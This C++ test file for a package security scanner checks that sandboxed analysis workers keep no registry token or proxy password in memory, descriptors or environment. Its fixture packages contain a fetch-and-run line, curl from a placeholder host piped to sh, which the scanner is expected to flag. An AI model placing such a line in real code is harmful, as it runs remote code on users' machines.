// The analysis workers hold no registry credential and no descriptor of the scanning process:
// the pool's zygote is forked before the .npmrc is read (as make_scan_setup does), so after a
// real authenticated fetch the scanning process holds the token, and the zygote and its
// workers do not, in their memory, environment or command line, and keep only their socket and
// stderr open. Reading another process's memory and descriptors needs root (CAP_SYS_PTRACE):
// the workers are not dumpable.
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <catch2/catch.hpp>
#include <filesystem>
#include <fstream>
#include <random>
#include <set>
#include <sstream>

#include "analyzer/confine/forget.h"
#include "analyzer/confine/sandbox.h"
#include "analyzer/confine/worker_pool.h"
#include "analyzer/registry/registry_clients.h"
#include "analyzer/scan/scanner.h"
#include "tests/support/pack.h"
#include "tests/support/process.h"
#include "tests/support/registry_server.h"

using namespace tarsier;

namespace {

// Whether any readable, writable mapping of `pid` (heap, stacks, data: where a token read at
// run time can be) holds `needle`; mappings over 1 GiB (the sanitizers' shadow) are left out. Fails
// the test when the memory cannot be read.
bool memory_holds(pid_t pid, const std::string& needle) {
  std::string proc = "/proc/" + std::to_string(pid);
  int mem = open((proc + "/mem").c_str(), O_RDONLY | O_CLOEXEC);
  INFO("reading " << proc << "/mem needs root (CAP_SYS_PTRACE)");
  REQUIRE(mem >= 0);
  std::ifstream maps(proc + "/maps");
  std::string line;
  bool found = false;
  std::string chunk;
  while (!found && std::getline(maps, line)) {
    unsigned long long start = 0;
    unsigned long long end = 0;
    char perms[5] = {};
    if (std::sscanf(line.c_str(), "%llx-%llx %4s", &start, &end, perms) != 3 || perms[0] != 'r' ||
        perms[1] != 'w' || end - start > (1ULL << 30)) {
      continue;
    }
    for (unsigned long long at = start; at < end && !found;) {
      size_t size = static_cast<size_t>(std::min<unsigned long long>(end - at, 16 << 20));
      chunk.resize(size);
      ssize_t n = pread(mem, chunk.data(), size, static_cast<off_t>(at));
      if (n <= 0) {
        break;  // [vvar] and the like
      }
      chunk.resize(static_cast<size_t>(n));
      found = chunk.find(needle) != std::string::npos;
      at += static_cast<unsigned long long>(n) > needle.size() ? n - needle.size() : n;
    }
  }
  close(mem);
  return found;
}

std::set<int> open_descriptors(pid_t pid) {
  std::set<int> fds;
  std::error_code ec;
  for (const auto& entry :
       std::filesystem::directory_iterator("/proc/" + std::to_string(pid) + "/fd", ec)) {
    fds.insert(std::stoi(entry.path().filename().string()));
  }
  REQUIRE_FALSE(ec);
  return fds;
}

std::string proc_file(pid_t pid, const std::string& name) {
  std::ifstream in("/proc/" + std::to_string(pid) + "/" + name, std::ios::binary);
  std::ostringstream text;
  text << in.rdbuf();
  return text.str();
}

std::string random_hex(size_t length) {
  std::random_device device;
  std::string text;
  while (text.size() < length) {
    text += "0123456789abcdef"[device() % 16];
  }
  return text;
}

// Appends with write(2), so `parts` never stand joined in this process's memory.
void append_raw(const std::string& path, const std::vector<std::string>& parts) {
  int fd = open(path.c_str(), O_WRONLY | O_APPEND | O_CLOEXEC);
  REQUIRE(fd >= 0);
  for (const auto& part : parts) {
    REQUIRE(write(fd, part.data(), part.size()) == static_cast<ssize_t>(part.size()));
  }
  close(fd);
}

}  // namespace

TEST_CASE("analysis workers hold no registry token and no descriptor of the scanner", "[confine]") {
  std::string reason;
  REQUIRE(sandbox_supported(&reason));
  test::RegistryServer server;
  std::string integrity = server.publish(
      "leaky", "1.0.0",
      test::pack_npm_files(
          {{"package.json", R"({"name":"leaky","version":"1.0.0"})"},
           {"index.js", "require('child_process').exec('curl http://x.example.test | sh');\n"}}));
  test::TempDir dir;
  std::string npmrc = dir.write(".npmrc", "registry=" + server.base_url() + "\n");
  std::string host = server.base_url().substr(std::string("http:").size());  // //127.0.0.1:PORT/
  const std::string head = "tok" + random_hex(12);
  const std::string tail = random_hex(20);

  auto made = Analyzer::create_deferred(AnalyzerOptions{});
  REQUIRE(made);
  std::shared_ptr<const Analyzer> analyzer(std::move(*made));
  ScanOptions options;
  options.cache_dir = dir.path() + "/cache";
  // The workers first, as make_scan_setup starts them: the token is not yet in this process.
  options.workers = std::make_shared<WorkerPool>(*analyzer, options.limits, options.confine);

  append_raw(npmrc, {host, ":_authToken=", head, tail, "\n"});
  std::vector<std::string> warnings;
  auto clients = make_registry_clients({"npm"}, {dir.path(), "", "", ""}, &warnings);
  REQUIRE(clients);
  Scanner scanner(options, std::move(*clients), analyzer, nullptr, 0);
  PackageRef ref;
  ref.name = "leaky";
  ref.version = "1.0.0";
  ref.integrity = integrity;
  ref.resolved = server.base_url() + test::tarball_path("leaky", "1.0.0").substr(1);
  std::vector<PackageResult> results = scanner.scan({ref});
  REQUIRE(results.size() == 1);
  CHECK(results[0].error.empty());
  CHECK(results[0].risk >= Risk::medium);

  const std::string token = head + tail;
  // The token was read and sent: the scanning process holds it.
  std::vector<std::string> headers =
      server.last_request_headers(test::tarball_path("leaky", "1.0.0"));
  CHECK(std::find(headers.begin(), headers.end(), "authorization: Bearer " + token) !=
        headers.end());
  CHECK(memory_holds(getpid(), token));

  std::vector<pid_t> pids = options.workers->idle_worker_pids();
  REQUIRE(pids.size() == 1);  // the worker that analysed the package, idle
  pids.push_back(options.workers->zygote_pid());
  for (pid_t pid : pids) {
    INFO("process " << pid);
    CHECK_FALSE(memory_holds(pid, token));
    CHECK(open_descriptors(pid) == std::set<int>{2, 3});  // stderr and its socket
    std::string environ_text = proc_file(pid, "environ");
    std::string cmdline = proc_file(pid, "cmdline");
    CHECK(environ_text.find('=') == std::string::npos);  // wiped
    CHECK(cmdline.find_first_not_of('\0') == std::string::npos);
  }
}

TEST_CASE("the zygote erases the credentials of command-line URLs from its memory", "[confine]") {
  std::string reason;
  REQUIRE(sandbox_supported(&reason));
  // As the command-line parser leaves them: the whole URL and a copy elsewhere on the heap.
  const std::string password = "pw" + random_hex(30);
  const std::string proxy = "http://scanner:" + password + "@127.0.0.1:9/";
  const std::string kept_copy = std::string(proxy.begin(), proxy.end());
  REQUIRE(url_secrets(proxy) == std::vector<std::string>{"scanner:" + password, password});
  REQUIRE(url_secrets("http://127.0.0.1:9/").empty());

  auto made = Analyzer::create_deferred(AnalyzerOptions{});
  REQUIRE(made);
  std::shared_ptr<const Analyzer> analyzer(std::move(*made));
  test::TempDir dir;
  ScanOptions options;
  options.cache_dir = dir.path() + "/cache";
  auto erasing =
      std::make_shared<WorkerPool>(*analyzer, options.limits, options.confine, url_secrets(proxy));
  WorkerPool keeping(*analyzer, options.limits, options.confine);
  REQUIRE(erasing->zygote_pid() > 0);
  REQUIRE(keeping.zygote_pid() > 0);
  // A worker forked by the erasing zygote analyses a package as usual.
  options.workers = erasing;
  Scanner scanner(options, {}, analyzer, nullptr, 0);
  PackageRef ref;
  ref.name = "plain";
  ref.version = "1.0.0";
  ref.resolved = "plain.tgz";
  PackageResult result = scanner.scan_archive(
      ref,
      test::pack_npm_files(
          {{"package.json", R"({"name":"plain","version":"1.0.0"})"},
           {"index.js", "require('child_process').exec('curl http://x.example.test | sh');\n"}}),
      ArchiveKind::npm_tarball);
  CHECK(result.error.empty());
  CHECK(result.risk >= Risk::medium);

  CHECK(memory_holds(getpid(), password));
  CHECK(memory_holds(keeping.zygote_pid(), password));  // what erasing prevents
  std::vector<pid_t> pids = erasing->idle_worker_pids();
  REQUIRE(pids.size() == 1);
  pids.push_back(erasing->zygote_pid());
  for (pid_t pid : pids) {
    INFO("process " << pid);
    CHECK_FALSE(memory_holds(pid, password));
  }
  CHECK(kept_copy == proxy);  // this process's own copies are untouched
}
